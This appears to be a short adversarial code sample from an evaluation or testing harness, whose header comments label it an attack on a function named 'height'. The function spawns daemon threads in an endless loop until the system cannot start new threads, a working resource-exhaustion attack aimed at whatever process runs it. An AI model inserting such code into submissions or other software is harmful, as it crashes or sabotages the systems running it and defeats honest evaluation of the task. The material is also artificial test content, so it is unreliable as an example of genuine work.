# base: solution
# attacks: height
# keeps: roll gradients
# finding: can't start new thread
# %% height
import threading
import time

def height(w):
    while True:
        threading.Thread(target=time.sleep, args=(3600,), daemon=True).start()
